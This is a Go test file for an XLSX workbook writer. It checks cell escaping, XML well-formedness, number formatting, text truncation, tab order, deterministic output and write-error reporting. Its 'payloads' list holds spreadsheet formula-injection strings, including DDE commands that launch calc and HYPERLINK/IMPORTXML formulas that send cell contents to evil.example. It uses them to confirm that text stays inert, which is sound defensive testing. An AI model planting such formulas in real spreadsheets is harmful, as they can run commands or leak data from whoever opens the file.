package xlsx_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"concord/formats/report/xlsx"
)

// sheet writes a workbook of one sheet.
func sheet(t testing.TB, fill func(*xlsx.Sheet)) []byte {
	t.Helper()
	var b bytes.Buffer
	book := xlsx.NewBook(&b, "a & b")
	s, err := book.Sheet(xlsx.Layout{Name: "It's <all> & more", Widths: []float64{10, 20}, Frozen: 2, Keys: 1})
	if err != nil {
		t.Fatal(err)
	}
	fill(s)
	if err := errors.Join(s.Close(), book.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// open reads a workbook with another program's reader.
func open(t testing.TB, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// payloads are texts that do something in a spreadsheet that takes them for
// anything but texts.
var payloads = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?x="&A1,"click")`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", `=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")`, `;=1+1`, `"=1+1`, `'=1+1`, `％=1+1`, `＝1+1`,
	`<script>alert(1)</script>`, `</t></is></c><c><f>1+1</f></c>`, `&lt;f&gt;1+1&lt;/f&gt;`, `]]>`, `<![CDATA[x]]>`, `&#61;1+1`, `_x003D_1+1`, `__x0041_`, `_x005F_x003D_1`,
	"\x00\x01\x1f=1", "\u0085\u2028=1", "\xff\xfe", "\ufffe\uffff", `  padded  `, `{=1+1}`, `0x1F`, `1E5`, `00123`, `2026-10-01`, `TRUE`, `+4930123456`, `123456789012345678901234567890`,
	strings.Repeat("=1+1&", 5000), "emoji 😀 and ﷽",
}

func TestATextStaysATextWhateverItBeginsWith(t *testing.T) {
	b := sheet(t, func(s *xlsx.Sheet) {
		for _, p := range payloads {
			s.Row()
			s.Text(xlsx.Text, p)
			s.Shared(xlsx.Text, p)
		}
	})
	f := open(t, b)
	name := f.GetSheetList()[0]
	for i, want := range payloads {
		for _, col := range "AB" {
			cell := fmt.Sprintf("%c%d", col, i+1)
			got, err := f.GetCellValue(name, cell)
			if err != nil {
				t.Fatal(err)
			}
			if want := readable(want); got != want {
				t.Errorf("%s: %.60q, want %.60q", cell, got, want)
			}
			if formula, err := f.GetCellFormula(name, cell); err != nil || formula != "" {
				t.Errorf("%s: formula %q, %v", cell, formula, err)
			}
			if link, _, err := f.GetCellHyperLink(name, cell); err != nil || link {
				t.Errorf("%s: is a link: %v", cell, err)
			}
			if kind, err := f.GetCellType(name, cell); err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("%s: type %v, %v", cell, kind, err)
			}
		}
	}
	for _, part := range parts(t, b) {
		if bytes.Contains(part.text, []byte("<f>")) || strings.Contains(part.name, "vba") || strings.Contains(part.name, "external") {
			t.Errorf("%s holds something to run", part.name)
		}
	}
}

// readable is a text as a reader of UTF-8 has it: bytes that are none are
// replaced.
func readable(s string) string {
	return strings.ToValidUTF8(strings.ReplaceAll(s, "\xff\xfe", "\ufffd\ufffd"), "\ufffd")
}

type zipped struct {
	name string
	text []byte
}

func parts(t testing.TB, b []byte) (list []zipped) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		list = append(list, zipped{f.Name, text})
	}
	return list
}

func TestEveryPartIsWellFormedAndNamed(t *testing.T) {
	b := sheet(t, func(s *xlsx.Sheet) {
		s.Row()
		s.Text(xlsx.Title, "title")
		s.Merge(0, 2)
		s.Tall(3)
		s.Text(xlsx.Header, `<&">`)
		s.Row()
		s.Shared(xlsx.Text, `<&">`)
		s.Filter(2, 2)
	})
	all := parts(t, b)
	for _, p := range all {
		d := xml.NewDecoder(bytes.NewReader(p.text))
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", p.name, err)
			}
		}
	}
	related(t, all)
	f := open(t, b)
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "It's <all> & more" {
		t.Errorf("sheets %q", got)
	}
	if p, err := f.GetDocProps(); err != nil || p.Title != "a & b" || p.Created != "" || p.Modified != "" {
		t.Errorf("properties %+v, %v", p, err)
	}
}

// related checks that every relation leads to a part, and that every part has
// a type.
func related(t *testing.T, all []zipped) {
	t.Helper()
	names := map[string]bool{}
	var types string
	for _, p := range all {
		names[p.name] = true
		if p.name == "[Content_Types].xml" {
			types = string(p.text)
		}
	}
	for _, p := range all {
		if base, ok := strings.CutSuffix(p.name, ".rels"); ok {
			var doc struct {
				Relationship []struct {
					Target string `xml:",attr"`
				}
			}
			if err := xml.Unmarshal(p.text, &doc); err != nil {
				t.Fatal(err)
			}
			folder, _, _ := strings.Cut(base, "_rels/")
			for _, r := range doc.Relationship {
				if !names[folder+r.Target] {
					t.Errorf("%s leads to %s, which is not there", p.name, r.Target)
				}
			}
		} else if p.name != "[Content_Types].xml" && !strings.Contains(types, `PartName="/`+p.name+`"`) {
			t.Errorf("%s has no type", p.name)
		}
	}
}

func TestNumbersAreShownAsPeopleReadThem(t *testing.T) {
	f := open(t, sheet(t, func(s *xlsx.Sheet) {
		s.Row()
		s.Int(xlsx.Count, 1234567)
		s.Int(xlsx.Count, 999_999_999_999_999)
		s.Int(xlsx.Count, 1_000_000_000_000_000)
		s.Int(xlsx.Count, -9_223_372_036_854_775_808)
		s.Time(xlsx.Precise, 63_250)
		s.Time(xlsx.Span, 90*3600_000+61_000)
		s.Minutes(xlsx.Minutes, 63_250)
		s.Minutes(xlsx.Signed, 90_000)
		s.Minutes(xlsx.Signed, -90_000)
		s.Seconds(xlsx.Seconds, -20_001)
		s.Instant(xlsx.Instant, 1790856001_500000)
		s.Instant(xlsx.Day, 1790856001_500000)
		s.Float(xlsx.Percent, -0.0125)
	}))
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"1,234,567", "999,999,999,999,999", "1000000000000000", "-9223372036854775808", "0:01:03.250", "90:01:01", "1.05", "+1.50", "-1.50", "-20.001",
		"2026-10-01 12:00:01.000", "2026-10-01", "-1.25%"} // this reader shows no parts of a second
	if !slices.Equal(rows[0], want) {
		t.Errorf("\n%q, want\n%q", rows[0], want)
	}
	if raw, err := f.GetCellValue(f.GetSheetList()[0], "K1", excelize.Options{RawCellValue: true}); err != nil || raw != "46296.5000173611" {
		t.Errorf("start %s, %v", raw, err)
	}
}

func TestATextThatIsTooLongSaysThatItWasCut(t *testing.T) {
	var cut int64
	texts := []string{strings.Repeat("x", xlsx.MaxText), strings.Repeat("x", xlsx.MaxText+1), strings.Repeat("😀", xlsx.MaxText), strings.Repeat("é", xlsx.MaxText)}
	f := open(t, sheet(t, func(s *xlsx.Sheet) {
		for _, text := range texts {
			s.Row()
			s.Text(xlsx.Text, text)
		}
		cut = s.Cut
	}))
	if cut != 2 {
		t.Errorf("%d texts were cut, want 2", cut)
	}
	for i, text := range texts {
		got, err := f.GetCellValue(f.GetSheetList()[0], fmt.Sprintf("A%d", i+1))
		if err != nil {
			t.Fatal(err)
		}
		short := i == 1 || i == 2
		if n := units(got); n > xlsx.MaxText || short != strings.Contains(got, "(cut: ") || !short && got != text {
			t.Errorf("text %d: %d units, end %q", i, n, got[len(got)-70:])
		}
	}
}

func units(s string) (n int) {
	for _, r := range s {
		if n++; r > 0xFFFF {
			n++
		}
	}
	return n
}

func TestSheetsStandInTheOrderOfTheirTabs(t *testing.T) {
	var b bytes.Buffer
	book := xlsx.NewBook(&b, "")
	for _, l := range []xlsx.Layout{{Name: "second", Tab: 1, Frozen: 3}, {Name: "third", Tab: 2}, {Name: "first", Tab: 0}} {
		s, err := book.Sheet(l)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := book.Sheet(l); err == nil {
			t.Error("two sheets were written at once")
		}
		s.Row()
		s.Text(xlsx.Text, l.Name)
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	if err := book.Close(); err != nil {
		t.Fatal(err)
	}
	f := open(t, b.Bytes())
	if got := f.GetSheetList(); !slices.Equal(got, []string{"first", "second", "third"}) {
		t.Errorf("sheets %q", got)
	}
	for _, name := range f.GetSheetList() {
		if got, err := f.GetCellValue(name, "A1"); err != nil || got != name {
			t.Errorf("sheet %s holds %q, %v", name, got, err)
		}
	}
	names := f.GetDefinedName()
	if len(names) != 1 || names[0].RefersTo != "'second'!$1:$3" || names[0].Scope != "second" {
		t.Errorf("names %+v", names)
	}
}

func TestTheSameCallsGiveTheSameBytes(t *testing.T) {
	write := func() []byte {
		return sheet(t, func(s *xlsx.Sheet) {
			for i := range 20_000 {
				s.Row()
				s.Shared(xlsx.Text, fmt.Sprint("class ", i%7))
				s.Text(xlsx.Text, fmt.Sprint("id ", i))
				s.Time(xlsx.Precise, int64(i)*17)
			}
		})
	}
	if !bytes.Equal(write(), write()) {
		t.Error("two workbooks of the same rows differ")
	}
}

// failing takes so many bytes.
type failing struct{ left int }

var errFull = errors.New("no space left")

func (f *failing) Write(p []byte) (int, error) {
	if f.left -= len(p); f.left < 0 {
		return 0, errFull
	}
	return len(p), nil
}

func TestAnErrorOfWritingIsReported(t *testing.T) {
	const whole = 1 << 20
	for _, left := range []int{0, 30, 100, 5_000, 200_000, 400_000} {
		book := xlsx.NewBook(&failing{left: left}, "")
		s, err := book.Sheet(xlsx.Layout{Name: "x"})
		if err != nil {
			if !errors.Is(err, errFull) {
				t.Errorf("after %d bytes: %v", left, err)
			}
			continue
		}
		for i := 0; i < whole && !s.Failed(); i++ {
			s.Row()
			s.Text(xlsx.Text, fmt.Sprint(i*7919, i*104729))
		}
		if err := errors.Join(s.Close(), book.Close()); !errors.Is(err, errFull) {
			t.Errorf("after %d bytes: %v", left, err)
		}
	}
}

func TestASheetSaysWhenItIsFull(t *testing.T) {
	s, err := xlsx.NewBook(io.Discard, "").Sheet(xlsx.Layout{Name: "x"})
	if err != nil {
		t.Fatal(err)
	}
	for !s.Full(2) {
		s.Row()
	}
	if err := s.Close(); err != nil || s.Rows() != xlsx.MaxRows-2 {
		t.Errorf("full at %d rows, %v", s.Rows(), err)
	}
}
